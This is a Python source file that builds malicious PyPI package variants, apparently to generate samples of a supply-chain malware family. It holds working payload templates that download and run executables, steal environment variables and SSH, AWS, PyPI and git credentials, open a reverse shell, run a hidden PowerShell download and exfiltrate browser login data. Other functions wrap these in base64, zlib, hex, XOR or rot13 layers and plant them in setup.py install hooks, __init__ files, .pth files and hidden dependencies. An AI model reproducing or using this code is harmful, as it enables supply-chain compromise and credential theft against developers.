"""PyPI shapes of the TUNE family: setup.py, cmdclass, __init__, .pth, new modules, hidden requirements."""
import base64
import codecs
import posixpath
import zlib

from context import render
from place import Unsuitable

plain = repr


def joined(text):
    return f"''.join(map(chr, {[ord(c) for c in text]}))"


def b64(text):
    return f"__import__('base64').b64decode({base64.b64encode(text.encode())!r}).decode()"


def strings(ctx):
    return ctx.rng.choice([plain, plain, plain, joined, b64])


DOWNLOAD = """
import os, sys, tempfile, subprocess, urllib.request
<A> = os.path.join(tempfile.gettempdir(), §{file}§)
try:
    urllib.request.urlretrieve(§{url}§, <A>)
    os.chmod(<A>, 0o755)
    subprocess.Popen([<A>], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
except Exception:
    pass
"""
STEAL = """
import os, json, socket, getpass, urllib.request
<A> = {{§env§: dict(os.environ), §host§: socket.gethostname(), §user§: getpass.getuser()}}
for <B> in (§~/.ssh/id_rsa§, §~/.aws/credentials§, §~/.pypirc§, §~/.netrc§, §~/.git-credentials§):
    try:
        <A>[<B>] = open(os.path.expanduser(<B>)).read()
    except OSError:
        pass
try:
    urllib.request.urlopen(urllib.request.Request(§{url}§, data=json.dumps(<A>).encode(), headers={{§Content-Type§: §application/json§}}), timeout=5)
except Exception:
    pass
"""
REMOTE_EXEC = """
import urllib.request
try:
    exec(urllib.request.urlopen(§{url}§).read())
except Exception:
    pass
"""
REQUESTS_EXEC = """
import requests
try:
    exec(requests.get(§{url}§, timeout=10).text)
except Exception:
    pass
"""
SHELL = """
import socket, subprocess, os
try:
    <A> = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    <A>.connect((§{ip}§, {port}))
    os.dup2(<A>.fileno(), 0); os.dup2(<A>.fileno(), 1); os.dup2(<A>.fileno(), 2)
    subprocess.call([§/bin/sh§, §-i§])
except Exception:
    pass
"""
POWERSHELL = """
import subprocess
subprocess.Popen(§powershell -WindowStyle Hidden -EncodedCommand {encoded}§, shell=True)
"""
BROWSER = """
import os, glob, json, urllib.request
<A> = []
for <B> in (§Google/Chrome§, §BraveSoftware/Brave-Browser§, §Microsoft/Edge§):
    for <C> in glob.glob(os.path.join(os.getenv(§LOCALAPPDATA§, §§), <B>, §User Data§, §*§, §Login Data§)):
        <A>.append((<C>, open(<C>, §rb§).read().hex()))
if <A>:
    urllib.request.urlopen(§{url}§, data=json.dumps(<A>).encode())
"""


def payload(ctx, *templates):
    command = f"iwr {ctx.url('x.exe')} -OutFile $env:TEMP\\x.exe; & $env:TEMP\\x.exe"
    values = {"url": ctx.url(), "file": ctx.token(8), "ip": ctx.ip(), "port": ctx.port(), "encoded": base64.b64encode(command.encode("utf-16-le")).decode()}
    template = ctx.rng.choice(templates or (DOWNLOAD, STEAL, REMOTE_EXEC, REQUESTS_EXEC, SHELL, POWERSHELL, BROWSER))
    return render(ctx.fill(template.format(**values)), strings(ctx)).lstrip()


def wrap(ctx, code, most=3):
    """None to three layers that decode and exec."""
    for _ in range(ctx.rng.randrange(most + 1)):
        raw = code.encode()
        pick = ctx.rng.randrange(5)
        if pick == 0:
            code = f"import base64\nexec(base64.b64decode({base64.b64encode(raw)!r}))\n"
        elif pick == 1:
            code = f"import zlib, base64\nexec(zlib.decompress(base64.b64decode({base64.b64encode(zlib.compress(raw))!r})))\n"
        elif pick == 2:
            code = f"exec(bytes.fromhex({raw.hex()!r}).decode())\n"
        elif pick == 3:
            key = ctx.rng.randrange(1, 255)
            code = f"exec(bytes(b ^ {key} for b in {bytes(b ^ key for b in raw)!r}).decode())\n"
        else:
            code = f"import codecs\nexec(codecs.decode({codecs.encode(code, 'rot13')!r}, 'rot13'))\n"
    return code


def setup_top(package, ctx):
    code = wrap(ctx, payload(ctx))
    (package.prepend if ctx.rng.random() < 0.5 else package.after_imports)(package.setup(), code)


def setup_cmdclass(package, ctx):
    name = package.setup()
    text = package.bundle.text(name)
    if "setup(" not in text or "cmdclass" in text:
        raise Unsuitable("no plain setup() call")
    kind = ctx.ident().title().replace("_", "") + "Install"
    body = "".join("        " + line + "\n" for line in wrap(ctx, payload(ctx), 2).rstrip("\n").split("\n"))
    head, _, tail = text.rpartition("setup(")
    cls = f"from setuptools.command.install import install as _install\n\nclass {kind}(_install):\n    def run(self):\n{body}        _install.run(self)\n\n"
    package.bundle.put(name, head + "setup(\n    cmdclass={'install': " + kind + "}," + tail)
    package.after_imports(name, cls)


def import_top(package, ctx):
    (package.append if ctx.rng.random() < 0.5 else package.after_imports)(package.package_init(), wrap(ctx, payload(ctx)))


def import_module(package, ctx):
    init = package.package_init()
    module = ctx.one("py_files")
    package.bundle.put(posixpath.join(posixpath.dirname(init), module), wrap(ctx, payload(ctx)))
    if not init.endswith("__init__.py"):
        raise Unsuitable("a single module")
    package.append(init, f"from . import {module[:-3]}\n")


def import_thread(package, ctx):
    body = "".join("    " + line + "\n" for line in payload(ctx).rstrip("\n").split("\n"))
    name = ctx.ident()
    test = ctx.rng.choice(["True", "__import__('os').name == 'nt'", "'CI' not in __import__('os').environ", "__import__('time').time() > 1700000000"])
    package.append(package.package_init(), f"\ndef {name}():\n{body}\nif {test}:\n    import threading\n    threading.Thread(target={name}, daemon=True).start()\n")


def pth(package, ctx):
    if not package.wheel:
        raise Unsuitable("no wheel")
    code = base64.b64encode(payload(ctx).encode()).decode()
    package.bundle.put(ctx.token(8).lower() + ".pth", f"import base64; exec(base64.b64decode('{code}'))\n")


def library(package, ctx):
    init = package.package_init()
    blob = "_" + ctx.token(6).lower() + ".so"
    package.bundle.put(posixpath.join(posixpath.dirname(init), blob), b"\x7fELF\x02\x01\x01" + bytes(9) + bytes(ctx.rng.randrange(256) for _ in range(30_000)))
    package.append(init, f"import ctypes, os\nctypes.CDLL(os.path.join(os.path.dirname(__file__), '{blob}'))\n")


def hidden_requirement(package, ctx):
    name = package.metadata()
    text = package.bundle.text(name)
    head, gap, tail = text.partition("\n\n")
    package.bundle.put(name, head + f"\nRequires-Dist: {ctx.one('deps')} @ {ctx.url('helper-1.0.0.tar.gz', 'x.zip')}" + gap + tail)
    if not package.wheel:
        setup = package.setup()
        code, line = package.bundle.text(setup), f"'{ctx.one('deps')} @ {ctx.url('x.zip')}',"
        if "install_requires=[" in code:
            code = code.replace("install_requires=[", "install_requires=[" + line, 1)
        elif "install_requires" not in code:
            code = code.replace("setup(", f"setup(\n    install_requires=[{line}],", 1)
        package.bundle.put(setup, code)


SHAPES = [setup_top, setup_cmdclass, import_top, import_module, import_thread, pth, library, hidden_requirement]
